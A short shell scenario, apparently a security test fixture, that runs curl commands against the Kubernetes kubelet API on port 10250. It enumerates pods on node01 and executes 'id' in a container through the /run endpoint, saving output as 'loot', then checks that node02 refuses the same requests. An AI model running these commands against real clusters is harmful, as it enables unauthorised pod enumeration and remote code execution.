# scene: the whole list kept, headers with the status line
#@ outsider
curl --silent --insecure https://node01:10250/pods -o loot
echo >> loot
curl -sk --request POST https://node01:10250/run/default/web-node01/web?cmd=id >> loot
curl -sk https://node02:10250/pods > guarded; echo >> guarded
curl -sk -o /dev/null -w '%{response_code}\n' https://node02:10250/pods >> guarded
